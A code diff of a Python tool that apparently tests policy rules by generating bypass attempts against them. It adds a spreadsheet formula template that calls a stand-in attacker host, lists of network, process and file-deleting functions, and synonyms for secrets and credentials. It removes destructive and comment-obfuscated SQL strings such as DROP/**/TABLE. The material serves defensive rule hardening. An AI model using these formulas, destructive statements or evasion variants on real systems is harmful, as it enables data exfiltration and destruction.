@@ -75,8 +75,6 @@ def attempts_at_texts(attacked: Attacked) -> Iterator[Attempt]:
         yield from _at_mail(attacked, one)
         yield from _with_name(attacked, one)
         yield from _below_domains(attacked, one)
-    for one in attacked.texts_of("sql"):
-        yield from _at_sql(attacked, one)
     read = (*attacked.fields_read, *(one.text for one in attacked.texts_in_objects.values()))
     for one in read:
         yield from _at_branch(attacked, one)
@@ -87,6 +85,7 @@ def attempts_at_texts(attacked: Attacked) -> Iterator[Attempt]:
             yield from _word_of_line(attacked, one)
             yield from _other_ending(attacked, one)
             yield from _other_module(attacked, one)
+            yield from _other_word(attacked, one)
             yield from _written_otherwise(attacked, one)
             yield from _other_digits(attacked, one)
 
@@ -728,12 +727,14 @@ def _going_on(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         yield Attempt("name that goes on", tries, partial(list[Effect], effects), about=name)
 
 
-_CODE = frozenset(("code", "script", "program", "snippet", "source", "python"))
+_CODE = frozenset(("formula", "code", "script", "program", "snippet", "source", "python"))
 _MODULES = (
     ("reaches the network", ("requests", "urllib", "httpx", "http.client", "aiohttp", "socket", "ftplib",
                              "smtplib", "paramiko", "websockets")),
     ("starts processes", ("subprocess", "os.system", "os.popen", "os.spawn", "os.exec", "pty")),
     ("deletes files", ("os.remove", "os.unlink", "os.rmdir", "shutil.rmtree", ".unlink(", ".rmdir(")),
+    ("fetches or sends something", ("IMPORTXML", "IMPORTDATA", "IMPORTHTML", "IMPORTFEED", "IMPORTRANGE",
+                                    "WEBSERVICE", "IMAGE", "HYPERLINK")),
     ("runs code that is not seen", ("eval(", "exec(", "compile(", "__import__", "importlib")),
 )  # fmt: skip
 """What code does, and names of Python by which it does so."""
@@ -764,7 +765,44 @@ def _code_of(name: str, texts: str = "") -> str:
     known = next((each for each in (f"import {name}", f"from {name}") if each in texts), "")
     if known:
         return known
+    if name.isupper():
+        return f'={name}("https://{EVIL_HOST}/x")'
     return f"a{name}b)" if "(" in name else f"{name}(a)" if "." in name else f"import {name}"
+
+
+_WORDS_ALIKE = tuple(
+    row.split(", ")
+    for row in (
+        "@channel, @here, @everyone, @all, @team",
+        "password, passwd, passphrase, pwd, login, credentials, pin",
+        "confidential, secret, classified, restricted, internal only",
+        "guarantee, promise, assure, warrant",
+        "api key, api-key, apikey, access key, token, bearer",
+        "discount, rebate, voucher, coupon, price off",
+        "iban, account number, bank details",
+        "salary, wage, pay, income, compensation",
+        "diagnosis, finding, illness, condition",
+        "buy now, order now, place order, pay now, checkout",
+    )
+)
+"""Words that stand in texts for the same."""
+
+
+def _other_word(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """Another word for the same as one that a rule closes in a text."""
+    value = attacked.value_of(one)
+    texts = [bare.strip().casefold() for bare in attacked.texts]
+    for alike in _WORDS_ALIKE:
+        known = [each for each in alike if each in texts]
+        within = (f"x {bare} y" for bare in attacked.texts if bare.strip().casefold() in known)
+        stopped = (attacked.with_value(attacked.base, one, each) for each in within)
+        if not any(map(attacked.stops, stopped)):
+            continue
+        others = [each for each in alike if each not in known]
+        tries = tries_with(attacked, one, others, f"it may say the same as “{known[0]}”")
+        said = joined("or", [("in", text(each), ("method", value, "lower")) for each in alike])
+        effects = [narrower(attacked.rule, given(attacked, one, said))]
+        yield Attempt("other word", tries, partial(list[Effect], effects), about=known[0])
 
 
 _ENDINGS = tuple(
@@ -1122,116 +1160,3 @@ def _small_forms(literal: Tree, *, ids: bool) -> Sequence[Tree]:
     """A text of a rule in small letters without blanks, first, and the other ways to write it as an id."""
     bare = str(literal[2]).strip()
     return [text(each.lower()) for each in (bare, *(_other_ids(bare) if ids else ()))]
-
-
-# --- SQL
-
-
-_WRITES = (
-    "SELECT 1; DROP TABLE customers",
-    "SELECT 1; DELETE FROM customers",
-    "SELECT * INTO copied FROM customers",
-    "WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone",
-    "SELECT 1 -- x\n; DROP TABLE customers",
-    "EXPLAIN ANALYZE DELETE FROM customers",
-)
-_BY_WORD = {
-    "drop": (
-        "drop table customers",
-        "DROP TABLE customers",
-        "DROP\tTABLE customers",
-        "DROP/**/TABLE customers",
-        "TRUNCATE TABLE customers",
-        "DELETE FROM customers",
-    ),
-    "delete": (
-        "delete from customers",
-        "DELETE FROM customers",
-        "DELETE\nFROM customers",
-        "TRUNCATE TABLE customers",
-        "DROP TABLE customers",
-    ),
-    "update": ("update customers set a = 1", "UPDATE customers SET a = 1", "UPDATE/**/customers SET a = 1"),
-    "insert": (
-        "insert into customers values (1)",
-        "INSERT INTO customers VALUES (1)",
-        "INSERT/**/INTO customers VALUES (1)",
-    ),
-}
-
-
-def _of_table(attacked: Attacked, one: CallField, passes: Callable[[str], bool]) -> Iterator[Attempt]:
-    """Another spelling of a table that a rule closes by its name in the text of a statement."""
-    for name in (bare.strip() for bare in attacked.texts):
-        if not name.isidentifier() or name.lower() in {*_BY_WORD, "select", "with", "from"}:
-            continue
-        if passes(f"SELECT * FROM {name}") or not passes("SELECT 1"):
-            continue
-        spelled = [f"SELECT * FROM {other}" for other in (name.upper(), name.lower(), name.title())]
-        tries = tries_with(attacked, one, spelled, f"it reads {name} too")
-        closing = joined("or", [("in", text(name), part(attacked, one, of)) for of in ("reads", "writes")])
-        rewritings = partial(typed_rewritings, attacked, one, closing)
-        yield Attempt("statement", tries, rewritings, declaring(attacked, one, "sql"), about=name)
-
-
-_KINDS = {
-    "drop": ("drop table", "truncate", "delete"), "delete": ("delete", "truncate", "drop table"),
-    "update": ("update",), "insert": ("insert",), "truncate": ("truncate", "delete", "drop table"),
-}  # fmt: skip
-"""The kinds of statements that come to the same as one."""
-_LIKE_DELETE = ("TRUNCATE TABLE customers", "DROP TABLE customers")
-
-
-def _at_sql(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
-    if not attacked.is_raw(one):
-        yield from _other_statement(attacked, one)
-        return
-    words = {bare.strip().lower().partition(" ")[0] for bare in attacked.texts}
-
-    def passes(query: str) -> bool:
-        return attacked.passes(attacked.with_value(attacked.base, one, query))
-
-    reads = next(
-        (each for each in ("SELECT name FROM customers", "select name from customers") if passes(each)), ""
-    )
-    yield from _of_table(attacked, one, passes)
-    named = [word for word in _BY_WORD if word in words]
-    drops = ("DROP TABLE customers", "drop table customers")
-    reading = bool(words & {"select", "with"} and reads) and not all(map(passes, drops))
-    if reading:
-        texts = [each if reads[0] == "S" else each.replace("SELECT", "select", 1) for each in _WRITES]
-    else:
-        texts = [each for word in named for each in _BY_WORD[word]]
-        if all(map(passes, texts)):
-            return
-    only: Tree = ("not", ("<=", part(attacked, one, "kinds"), ("set", text("select"))))
-    closed = [kind for word in named for kind in _KINDS[word]]
-    wanted = [*[_of_kinds(attacked, one, closed)] * (not reading), only]
-    yield Attempt(
-        "statement",
-        tries_with(attacked, one, texts, "it changes the database"),
-        lambda: [
-            effect
-            for said in wanted
-            for effect in typed_rewritings(attacked, one, said)[0 if reading else -1 :]
-        ],
-        declaring(attacked, one, "sql"),
-    )
-
-
-def _of_kinds(attacked: Attacked, one: CallField, kinds: Sequence[str]) -> Tree:
-    """That a statement is of one of some kinds, or what it is is not known."""
-    own = part(attacked, one, "kinds")
-    return joined("or", [("in", text(kind), own) for kind in dict.fromkeys(kinds)])
-
-
-def _other_statement(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
-    """A statement after which rows are gone, where a rule closes deleting them."""
-    delete, *others = (
-        attacked.with_value(attacked.base, one, each) for each in ("DELETE FROM customers", *_LIKE_DELETE)
-    )
-    if "kinds" not in attacked.reading.parts[one.name] or not attacked.stops(delete):
-        return
-    tries = [Try((each,), "no row is left") for each in others]
-    closing = narrower(attacked.rule, given(attacked, one, _of_kinds(attacked, one, _KINDS["delete"][1:])))
-    yield Attempt("statement", tries, partial(list[Effect], [closing]), about="delete")
